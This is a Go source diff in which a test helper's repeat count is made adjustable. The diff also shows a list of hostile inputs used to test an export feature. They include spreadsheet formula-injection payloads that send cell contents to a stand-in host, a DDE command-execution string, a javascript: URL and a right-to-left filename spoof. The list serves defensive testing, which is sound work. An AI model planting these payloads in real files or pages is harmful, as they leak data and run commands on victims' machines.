@@ -16,6 +16,7 @@ import (
 	"unicode"
 
 	"canvass/internal/analysis"
+	"canvass/internal/effort"
 	"canvass/internal/export"
 	pagehtml "canvass/internal/export/html"
 	"canvass/internal/export/markdown"
@@ -31,7 +32,7 @@ func nasty() []string {
 	return []string{
 		"=1+1", `=HYPERLINK("http://x.example/?"&A1,"ok")`, `=IMPORTDATA("http://x.example/"&B2)`, `=WEBSERVICE("http://x.example")`, "=cmd|'/c calc'!A1", "@SUM(1)", "+1+1", "-1+1",
 		"\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\ufeff=1+1", "＝1+1", `a,"=1+1"`, "a;=1+1", "'=1+1", "- I agree", "@handle",
-		strings.Repeat("x", 32767), strings.Repeat("y", 32768), strings.Repeat("long words ", 100_000), strings.Repeat("😀", 16384), "_x000D_", "_x0041_", "  edge blanks  ", "one\r\ntwo\rthree",
+		strings.Repeat("x", 32767), strings.Repeat("y", 32768), strings.Repeat("long words ", effort.Of(10_000, 100_000)), strings.Repeat("😀", 16384), "_x000D_", "_x0041_", "  edge blanks  ", "one\r\ntwo\rthree",
 		"00123", "1e5", "1/2", "MARCH1", "12345678901234567", "TRUE", "#REF!", "\ufffe\uffff", "javascript:alert(1)", `a/b:c*?[x]`, "'q'", "History", "forty characters of an organisation's name", "CASE", "case", "",
 		"Zoë", "Zoe\u0308", "👩‍👩‍👧‍👦", "👍🏽🇪🇸", "مرحبا hello 123", "שלום, עולם!", "\u202egpj.exe", "\u2066unclosed", "zero\u200bwidth", "Аnа", "e" + strings.Repeat("\u0301", 200), "nul\x00byte", "\xed\xa0\x80lone", "\xff\xfe", "\xc0\xaf",
 		"\ufeffat the start", "in the mid\ufeffdle", "curly “quotes”", "line\u2028sep\u2029par", "next\u0085line", "İıß", "\u00a0\u00a0",
